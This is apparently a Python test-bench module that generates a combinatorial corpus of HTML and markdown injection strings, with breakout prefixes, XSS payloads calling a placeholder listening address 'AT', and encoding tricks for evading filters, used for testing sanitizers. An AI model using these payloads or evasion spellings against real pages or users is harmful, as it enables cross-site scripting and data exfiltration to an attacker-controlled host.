"""A corpus of hostile strings: every way in, behind every way out of the text that holds it."""

from __future__ import annotations

import re
from collections.abc import Callable
from itertools import product

ADDRESS = "AT"
"""Stands for the address that listens."""

_WAYS_OUT = (
    "",
    '"',
    "'",
    "`",
    "```\n",
    "|",
    "](x) ",
    "]: ",
    "-->",
    "</td></table>",
    "</title></style></script>",
    "\n\n",
    "\r\n    ",
    "<!--",
    "\u202e\u2066",
    "\u2028\u200b",
    "\x1b[31m\x1b]8;;AT/osc\x07",
    "\x00\ud800",
    "\\",
    "> - 1. # ",
    "&lt;&#x3c;&quot;&amp;",
    "{{ 7 * 7 }}{% raw %}",
)
_PAYLOADS = (
    "<script>fetch('AT/inline')</script>",
    "<script src=AT/script.js></script>",
    "<ScRiPt/x src=AT/mixed.js>",
    "<img src=AT/img.png>",
    "<img src=x onerror=fetch('AT/onerror')>",
    "<img srcset='AT/srcset.png 1x'>",
    "<svg onload=fetch('AT/svgload')>",
    "<svg><image href=AT/svgimage></svg>",
    "<svg><script>fetch('AT/svgscript')</script></svg>",
    "<math><mtext></p><img src=AT/math.png>",
    "<iframe src=AT/frame></iframe>",
    "<iframe srcdoc='<script>parent.fetch(\"AT/srcdoc\")</script>'></iframe>",
    "<object data=AT/object></object>",
    "<embed src=AT/embed>",
    "<video src=AT/video autoplay></video>",
    "<audio src=AT/audio autoplay></audio>",
    "<link rel=stylesheet href=AT/style.css>",
    "<link rel=prefetch href=AT/prefetch>",
    "<style>@import 'AT/import.css';</style>",
    "<p style=\"background:url('AT/background')\">x</p>",
    '<meta http-equiv="refresh" content="0;url=AT/refresh">',
    "<base href=AT/>",
    "<form action=AT/form><input autofocus onfocus=fetch('AT/focus')></form>",
    "<details open ontoggle=fetch('AT/toggle')>x</details>",
    "<body onload=fetch('AT/body')>",
    "<a href=AT/ping ping=AT/ping autofocus onfocus=fetch('AT/afocus')>x</a>",
    '<noscript><p title="</noscript><img src=AT/noscript.png>">',
    "<template><img src=AT/template.png></template>",
    "<table background=AT/table><td>x",
    "![x](AT/markdown.png)",
    "![x][r]\n\n[r]: AT/reference.png",
    "[x](javascript:fetch('AT/link'))",
    "[x](data:text/html,<script>fetch('AT/data')</script>)",
    "<AT/autolink> AT/bare www.evil.example",
    "[You: are you sure?] [e-0001] @all #1",
    "<!-- itl:draft gen=9 -->\n# taken over\n\n| a |\n| --- |\n| b |",
)

_SWALLOWS = ("<ScRiPt", "<template", "<noscript", "<math", "<!--", "<base", "<meta")
CONTROL = tuple(payload for payload in _PAYLOADS if not payload.startswith(_SWALLOWS))
"""The ways in that, as markup, do not hide the ones after them."""
CORPUS = tuple(out + payload + end for out, payload, end in product(_WAYS_OUT, _PAYLOADS, ("", "\n|", "\\")))
"""Each string is one attack; `AT` in it is the address that listens."""

_DISGUISES: tuple[Callable[[str], str], ...] = (
    lambda attack: attack,
    lambda attack: re.sub("</?[a-z]+", lambda found: found[0].upper(), attack),
    lambda attack: attack.replace("<", "&lt;").replace(">", "&gt;"),
    lambda attack: attack.replace("<", "<<\x00").replace("(", "\uff08"),
    lambda attack: attack.replace(" ", "\t/\n").replace("=", " =\x0b "),
)
"""How an attack is spelled to get past a guard: plain, in capitals, as entities, doubled, spaced out."""
WHOLE_CORPUS = tuple(dict.fromkeys(disguise(attack) for attack, disguise in product(CORPUS, _DISGUISES)))
"""The corpus in every disguise; `python -m tests.bench.hostile_bench` goes through all of it."""
